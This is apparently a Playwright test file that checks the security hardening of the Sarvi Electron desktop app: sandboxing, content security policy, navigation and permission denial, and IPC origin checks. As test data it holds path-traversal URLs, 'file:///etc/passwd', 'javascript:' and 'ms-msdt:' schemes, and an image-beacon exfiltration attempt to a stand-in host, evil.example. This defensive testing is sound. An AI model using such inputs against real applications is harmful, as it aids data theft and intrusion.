/** What the desktop shell allows and refuses, on its built bundle with the double of `electron`. */
import { expect, type Page } from '@playwright/test';
import { existsSync } from 'node:fs';
import { mkdir, readFile, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Bridge } from '#contract/contract';
import { claimFile } from '../../src-main/core/claim-file.ts';
import { ElectronDouble, type ElectronDoubleOptions } from '../electron-double/electron-double.ts';
import { test as base } from './temporary-folder.ts';

interface Fixtures {
  launch: (options?: Partial<ElectronDoubleOptions>) => Promise<ElectronDouble>;
}

const test = base.extend<Fixtures>({
  launch: async ({ browser, folder }, use) => {
    const running: ElectronDouble[] = [];
    await use(async (options) => {
      const double = await ElectronDouble.launch({ browser, appData: folder, ...options });
      running.push(double);
      return double;
    });
    for (const double of running) if (double.exitCode === null) await double.quit();
  },
});

/** Calls through `window.sarvi`, as the renderer does. */
const ask = (page: Page, name: string, input: unknown): Promise<unknown> =>
  page.evaluate(
    ([call, value]) => (globalThis as unknown as { sarvi: Bridge }).sarvi.call(call as never, value as never),
    [name, input] as const,
  );

test('opens one sandboxed window on its own origin, through the preload', async ({ launch }) => {
  const double = await launch();
  const { window, page } = await double.firstWindow();
  expect(window.options.webPreferences).toEqual({
    preload: expect.stringMatching(/out[\\/]preload[\\/]preload\.cjs$/),
    contextIsolation: true,
    sandbox: true,
    nodeIntegration: false,
    webviewTag: false,
    spellcheck: false,
  });
  expect([double.isSandboxEnabled, double.windows.length, window.webContents.url]).toEqual([true, 1, 'app://sarvi/']);
  expect(double.schemes).toEqual([{ scheme: 'app', privileges: { standard: true, secure: true, codeCache: true } }]);
  expect(await page.evaluate(() => Object.keys((globalThis as unknown as { sarvi: Bridge }).sarvi).sort())).toEqual([
    'call',
    'listen',
    'pathOfFile',
  ]);
  expect(await ask(page, 'app.describe', {})).toMatchObject({
    ok: true,
    value: { shell: 'desktop', dataFolder: double.dataFolder, nativeDialogs: true },
  });
});

test('says that it was started without a sandbox and how to mend it, and goes on only when told to', async ({
  launch,
}) => {
  const refused = await launch({ switches: ['no-sandbox'], locale: 'fi-FI', messageBoxAnswer: 0 });
  await refused.exited;
  expect([refused.exitCode, refused.windows.length]).toEqual([0, 0]);
  expect(refused.messageBoxes).toEqual([
    expect.objectContaining({
      message: 'Sarvi käynnistettiin ilman hiekkalaatikkoa',
      detail: expect.stringContaining('--no-sandbox'),
      buttons: ['Lopeta Sarvi', 'Jatka ilman sitä'],
      defaultId: 0,
      cancelId: 0,
    }),
  ]);
  const goesOn = await launch({ switches: ['no-sandbox'], messageBoxAnswer: 1 });
  await goesOn.firstWindow();
  expect(goesOn.messageBoxes.map(({ message }) => message)).toEqual(['Sarvi was started without its sandbox']);
});

test('moves what an older Sarvi kept beside its settings, and refuses while that one runs', async ({
  launch,
  folder,
}) => {
  const former = join(folder, '.config', 'Sarvi');
  await mkdir(join(former, 'logs'), { recursive: true });
  await writeFile(join(former, 'logs', 'sarvi.log'), 'of an older Sarvi\n');
  await writeFile(join(former, 'config.json'), JSON.stringify({ language: 'fi' }));
  const claimed = claimFile(join(former, 'running.json'));
  const refused = await launch();
  await refused.exited;
  expect(refused.errorBoxes.map(({ content }) => content)).toEqual([expect.stringContaining(former)]);
  if ('claim' in claimed) claimed.claim.release();

  const double = await launch();
  const { page } = await double.firstWindow();
  expect(await readFile(join(double.dataFolder, 'logs', 'sarvi.log'), 'utf8')).toMatch(/^of an older Sarvi/);
  expect(await ask(page, 'settings.get', {})).toMatchObject({ ok: true, value: { language: 'fi' } });
  expect(existsSync(join(former, 'logs'))).toBe(false);
});

test('keeps everything beside the program where there is a folder for it', async ({ launch, folder }) => {
  const programFolder = join(folder, 'USB stick ä');
  const data = join(programFolder, 'Sarvi data');
  await mkdir(data, { recursive: true });
  const double = await launch({ programFolder });
  const { page } = await double.firstWindow();
  expect(await ask(page, 'app.describe', {})).toMatchObject({ ok: true, value: { dataFolder: data } });
  await ask(page, 'settings.update', { language: 'fi' });
  expect(existsSync(join(data, 'config.json'))).toBe(true);
  expect([double.userData, existsSync(double.dataFolder), existsSync(join(folder, '.config'))]).toEqual([
    data,
    false,
    false,
  ]);
});

test('does not start, and says why, where a portable copy cannot write', async ({ launch, folder }) => {
  test.skip(process.platform !== 'linux', 'needs a folder that even root cannot write to');
  const programFolder = join(folder, 'USB stick');
  await mkdir(programFolder);
  await symlink('/sys/kernel', join(programFolder, 'Sarvi data'));
  const double = await launch({ programFolder, locale: 'fi-FI' });
  await double.exited;
  expect([double.exitCode, double.windows.length, existsSync(double.dataFolder)]).toEqual([1, 0, false]);
  expect(double.errorBoxes).toEqual([
    { title: 'Sarvi ei käynnisty', content: expect.stringContaining('kirjoitussuojaus') },
  ]);
});

test("keeps everything in the folder that Chromium's switch names", async ({ launch }) => {
  const double = await launch({ switches: ['user-data-dir'] });
  const { page } = await double.firstWindow();
  const described = await ask(page, 'app.describe', {});
  expect(described).toMatchObject({ ok: true, value: { dataFolder: double.userData } });
  expect(existsSync(double.dataFolder)).toBe(false);
});

test('serves the renderer, and nothing else, under a policy without remote sources', async ({ launch }) => {
  const double = await launch();
  await double.firstWindow();
  const handler = double.protocolHandlers.get('app');
  const get = async (url: string, method = 'GET') => handler?.(new Request(url, { method }));
  const index = await get('app://sarvi/');
  expect(index?.headers.get('content-security-policy')).toBe(
    "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; font-src 'self'; " +
      "connect-src 'none'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'",
  );
  expect(index?.headers.get('content-type')).toBe('text/html; charset=utf-8');
  const refused = [
    await get('app://other/'),
    await get('app://sarvi/../main/main.js'),
    await get('app://sarvi/%2e%2e/main/main.js'),
    await get('app://sarvi/..%2fmain%2fmain.js'),
    await get('app://sarvi/package.json'),
    await get('app://sarvi/', 'POST'),
  ];
  expect(refused.map((response) => response?.status)).toEqual([404, 404, 404, 404, 404, 404]);
});

test('hears only the top frame of its own page', async ({ launch }) => {
  const double = await launch();
  const { page } = await double.firstWindow();
  const channel = [...double.invokeHandlers.keys()][0] ?? '';
  const own = { url: 'app://sarvi/', parent: null };
  expect(await double.invoke(own, channel, 'settings.get', {})).toMatchObject({ ok: true });
  const foreign = [
    null,
    { url: 'https://evil.example/', parent: null },
    { url: 'app://other/', parent: null },
    { url: 'app://sarvi.evil.example/', parent: null },
    { url: 'file:///etc/passwd', parent: null },
    { url: 'about:blank', parent: null },
    { url: 'app://sarvi/', parent: own },
  ];
  for (const frame of foreign) {
    await expect(double.invoke(frame, channel, 'settings.get', {}), JSON.stringify(frame)).rejects.toThrow(/refused/);
  }
  // The same through a page: an empty frame inherits the origin, but is not the top frame.
  const answer = await page.evaluate(async (name) => {
    const frame = document.body.appendChild(document.createElement('iframe'));
    const inner = frame.contentWindow as unknown as Record<string, (...args: unknown[]) => Promise<unknown>>;
    return inner['__electronInvoke']?.(name, ['settings.get', {}]);
  }, channel);
  expect(answer).toEqual({ thrown: expect.stringContaining('refused') });
});

test('comes back after its page has died, without opening what was open', async ({ launch }) => {
  const double = await launch();
  const { window, page } = await double.firstWindow();
  for (let death = 1; death <= 5; death += 1) {
    await page.evaluate(() => {
      location.hash = '#/chat/what-killed-it';
      (globalThis as unknown as { isOld: boolean }).isOld = true;
    });
    window.webContents.emit('render-process-gone', {}, { reason: 'crashed', exitCode: 5 });
    if (death > 4) break;
    await page.waitForFunction(() => !('isOld' in globalThis));
    expect(new URL(page.url()).hash).toBe('');
  }
  // Whoever dies for ever is left alone.
  expect(await page.evaluate(() => location.hash)).toBe('#/chat/what-killed-it');
  expect(window.webContents.url).toBe('app://sarvi/');
});

test('answers unknown calls and impossible input with a typed error', async ({ launch }) => {
  const { page } = await (await launch()).firstWindow();
  for (const [name, input] of [
    ['fs.readFile', { path: '/etc/passwd' }],
    ['__proto__', {}],
    ['settings.update', { theme: 'purple' }],
    ['settings.get', null],
  ] as const) {
    expect(await ask(page, name, input), name).toMatchObject({ ok: false, error: { code: 'invalid-input' } });
  }
});

test('denies navigation and new windows, and asks before an https: link opens outside', async ({ launch }) => {
  const double = await launch();
  const { page } = await double.firstWindow();
  const go = async (act: () => Promise<unknown>, url: string) => {
    const before = double.deniedUrls.length;
    await act();
    await expect.poll(() => double.deniedUrls.slice(before)).toEqual([url]);
  };
  await go(() => page.evaluate(() => void (location.href = 'https://evil.example/a')), 'https://evil.example/a');
  await go(() => page.evaluate(() => void window.open('https://evil.example/b')), 'https://evil.example/b');
  await go(() => page.evaluate(() => void window.open('http://evil.example/c')), 'http://evil.example/c');
  expect(page.url()).toBe('https://sarvi.invalid/');
  expect(double.windows.length).toBe(1);
  await expect
    .poll(() => double.messageBoxes.map(({ detail }) => detail))
    .toEqual(['https://evil.example/a', 'https://evil.example/b']);
  // Cancel is the answer that Enter and Escape give.
  expect(double.messageBoxes[0]).toMatchObject({ defaultId: 1, cancelId: 1 });
  expect(double.openedOutside).toEqual([]);

  double.messageBoxAnswer = 0;
  await go(
    () => page.evaluate(() => void window.open('https://huggingface.co/LumiOpen')),
    'https://huggingface.co/LumiOpen',
  );
  await expect.poll(() => double.openedOutside).toEqual(['https://huggingface.co/LumiOpen']);
});

test('never hands another scheme to the system', async ({ launch }) => {
  const double = await launch();
  const { window } = await double.firstWindow();
  double.messageBoxAnswer = 0;
  for (const url of [
    'file:///etc/passwd',
    'smb://evil.example/share',
    'javascript:alert(1)',
    'ms-msdt:/id',
    'not a url',
  ]) {
    const answer = window.webContents.openHandler?.({ url } as never);
    expect(answer, url).toEqual({ action: 'deny' });
  }
  expect([double.openedOutside, double.messageBoxes]).toEqual([[], []]);
});

test('lets nothing reach the network', async ({ launch }) => {
  const double = await launch();
  const { page } = await double.firstWindow();
  const reached = await page.evaluate(() =>
    Promise.all([
      fetch('https://evil.example/').then(
        () => true,
        () => false,
      ),
      new Promise((resolve) => {
        const image = new Image();
        image.onload = () => resolve(true);
        image.onerror = () => resolve(false);
        image.src = 'https://evil.example/pixel.png?text=secret';
      }),
    ]),
  );
  expect(reached).toEqual([false, false]);
  // The policy stops both before a request is made; a request that gets past it is stopped by the session.
  expect(double.blockedUrls).toEqual([]);
  expect(await double.isCancelled('https://evil.example/')).toBe(true);
  expect(await double.isCancelled('wss://evil.example/')).toBe(true);
  expect(await double.isCancelled('file:///etc/passwd')).toBe(true);
  expect(await double.isCancelled('app://sarvi/')).toBe(false);
});

test('grants no permission but putting text on the clipboard', async ({ launch }) => {
  const double = await launch();
  const { window } = await double.firstWindow();
  const contents = window.webContents as never;
  const asked = (permission: string) =>
    new Promise((resolve) => double.permissionRequest?.(contents, permission as never, resolve, {} as never));
  const names = ['media', 'geolocation', 'notifications', 'clipboard-read', 'openExternal', 'fileSystem', 'usb'];
  expect(await Promise.all(names.map(asked))).toEqual(names.map(() => false));
  const checked = names.map((name) => double.permissionCheck?.(contents, name as never, 'app://sarvi', {} as never));
  expect(checked).toEqual(names.map(() => false));
  expect(await asked('clipboard-sanitized-write')).toBe(true);
  expect(double.permissionCheck?.(null, 'clipboard-sanitized-write', 'https://evil.example', {} as never)).toBe(false);
  expect(double.deviceCheck?.({} as never)).toBe(false);
});

test('attaches no webview', async ({ launch }) => {
  const double = await launch();
  const { window } = await double.firstWindow();
  let isPrevented = false;
  window.webContents.emit('will-attach-webview', { preventDefault: () => (isPrevented = true) });
  expect(isPrevented).toBe(true);
});

test('runs once: a second start brings the first window forward and ends', async ({ launch }) => {
  const first = await launch();
  const { window } = await first.firstWindow();
  window.isMinimizedNow = true;
  const second = await launch();
  await second.exited;
  expect([second.exitCode, second.windows.length]).toEqual([0, 0]);
  expect(window.calls).toEqual(['show', 'restore', 'focus']);
  expect(first.exitCode).toBeNull();
});

test('keeps the place of the window for the next run', async ({ launch }) => {
  const first = await launch();
  const bounds = { x: 40, y: 50, width: 900, height: 700 };
  (await first.firstWindow()).window.setBounds(bounds);
  await first.quit();
  const second = await launch();
  expect((await second.firstWindow()).window.options).toMatchObject(bounds);
  await second.quit();

  const elsewhere = await launch();
  (await elsewhere.firstWindow()).window.setBounds({ x: 5000 });
  await elsewhere.quit();
  const third = await launch();
  const { options } = (await third.firstWindow()).window;
  expect([options.x, options.y, options.width]).toEqual([undefined, undefined, 1200]);
});

test('speaks the language of the settings in its menu, with the usual roles', async ({ launch }) => {
  const double = await launch({ locale: 'fi-FI' });
  const { page } = await double.firstWindow();
  const labels = () => double.menu.map(({ label }) => label);
  const roles = double.menu.flatMap(({ submenu }) => (Array.isArray(submenu) ? submenu : [])).map(({ role }) => role);
  expect(labels()).toContain('Muokkaa');
  expect(roles).toEqual(expect.arrayContaining(['undo', 'copy', 'paste', 'selectAll', 'close', 'zoomIn', 'about']));
  await ask(page, 'settings.update', { language: 'en', theme: 'dark' });
  await expect.poll(labels).toContain('Edit');
  const saved = JSON.parse(await readFile(join(double.userData, 'config.json'), 'utf8')) as object;
  expect(saved).toMatchObject({ language: 'en', theme: 'dark' });
  await expect.poll(() => page.evaluate(() => matchMedia('(prefers-color-scheme: dark)').matches)).toBe(true);
});

test('what the system tells of sleep reaches the core', async ({ launch }) => {
  const double = await launch();
  await double.firstWindow();
  double.powerMonitor.emit('suspend');
  double.powerMonitor.emit('resume');
  const log = (): Promise<string> => readFile(join(double.dataFolder, 'logs', 'sarvi.log'), 'utf8');
  await expect.poll(log).toMatch(/the computer woke/);
});

test('reaches the page from the menu', async ({ launch }) => {
  const double = await launch();
  const { page } = await double.firstWindow();
  await page.getByRole('button', { name: 'Skip for now' }).click();
  const start = page.getByRole('heading', { name: 'Add a model first' });
  await expect(start).toBeVisible();
  const choose = (label: string) => {
    const items = double.menu.flatMap(({ submenu }) => (Array.isArray(submenu) ? submenu : []));
    items.find((item) => item.label === label)?.click?.({} as never, undefined, {});
  };
  choose('Settings…');
  await expect(page.getByRole('heading', { name: 'Settings', level: 1 })).toBeVisible();
  choose('Search');
  await expect(page.getByRole('combobox', { name: 'Search' })).toBeFocused();
  choose('New Conversation');
  await expect(start).toBeVisible();
});

test('offers to import a model file that the system opens with it', async ({ launch, folder }) => {
  const double = await launch();
  const { page } = await double.firstWindow();
  await page.getByRole('button', { name: 'Skip for now' }).click();
  const path = join(folder, 'malli ä.gguf');
  await writeFile(path, 'GGUF');
  double.tellApp('second-instance', {}, ['sarvi-desktop', '--updated', 'malli ä.gguf'], folder, null);
  const dialog = page.getByRole('dialog', { name: 'Import a model' });
  await expect(dialog).toContainText('malli ä.gguf');
  await page.keyboard.press('Escape');
  double.tellApp('open-file', { preventDefault: () => undefined }, path);
  await expect(dialog).toContainText('malli ä.gguf');
  // What is no model file is no reason for anything.
  await page.keyboard.press('Escape');
  double.tellApp('second-instance', {}, ['sarvi-desktop', join(folder, 'notes.txt')], folder, null);
  expect(await ask(page, 'app.takeOpenedFile', {})).toEqual({ ok: true, value: { path: null } });
});

test("chooses files with the system's dialog", async ({ launch }) => {
  const double = await launch();
  const { page } = await double.firstWindow();
  expect(await ask(page, 'app.choosePath', { kind: 'checkpoint' })).toEqual({ ok: true, value: { path: null } });
  double.chosenPath = join(double.userData, 'model.gguf');
  expect(await ask(page, 'app.choosePath', { kind: 'gguf' })).toEqual({ ok: true, value: { path: double.chosenPath } });
  expect(await ask(page, 'app.choosePath', { kind: 'conversations' })).toMatchObject({ ok: true });
  expect(await ask(page, 'app.choosePath', { kind: 'models-folder' })).toMatchObject({ ok: true });
  expect(double.openDialogs.map(({ properties }) => properties)).toEqual([
    ['openDirectory'],
    ['openFile'],
    ['openFile'],
    ['openDirectory', 'createDirectory'],
  ]);
  double.chosenPath = join(double.userData, 'all.json');
  expect(await ask(page, 'app.chooseNewPath', { suggestedName: 'Sarvi.json' })).toEqual({
    ok: true,
    value: { path: double.chosenPath },
  });
  expect(double.saveDialogs.map(({ defaultPath }) => defaultPath)).toEqual(['Sarvi.json']);
});

test('says why it cannot start', async ({ launch }) => {
  const first = await launch();
  await first.firstWindow();
  const lock = await readFile(join(first.dataFolder, 'running.json'), 'utf8');
  expect(JSON.parse(lock)).toMatchObject({ processId: process.pid });
  first.releaseSingleInstanceLock();
  const second = await launch();
  await second.exited;
  expect(second.exitCode).toBe(1);
  expect(second.errorBoxes).toEqual([
    { title: 'Sarvi cannot start', content: expect.stringContaining(`(process ${process.pid})`) },
  ]);
});
